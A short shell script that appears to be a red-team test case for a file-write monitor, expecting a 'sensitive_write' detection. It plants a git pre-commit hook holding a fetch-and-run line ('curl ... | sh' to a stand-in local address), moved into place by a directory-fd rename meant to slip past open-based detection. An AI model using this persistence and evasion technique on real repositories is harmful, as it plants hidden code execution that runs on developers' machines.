#!/bin/sh
# expect: sensitive_write
# Persistence through a rename resolved against directory fds (red team, issue 21): the hook
# arrives by renameat with src_dir_fd/dst_dir_fd, never by an open of its name.
mkdir -p .git/hooks
for round in $(seq 1 50); do
  python3 - <<'PY' 2>/dev/null
import os
src = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
hooks = os.open(".git/hooks", os.O_RDONLY | os.O_DIRECTORY)
with open("payload", "w") as f:
    f.write("#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n")
os.rename("payload", "pre-commit", src_dir_fd=src, dst_dir_fd=hooks)
PY
  sleep 0.1
done
touch finished
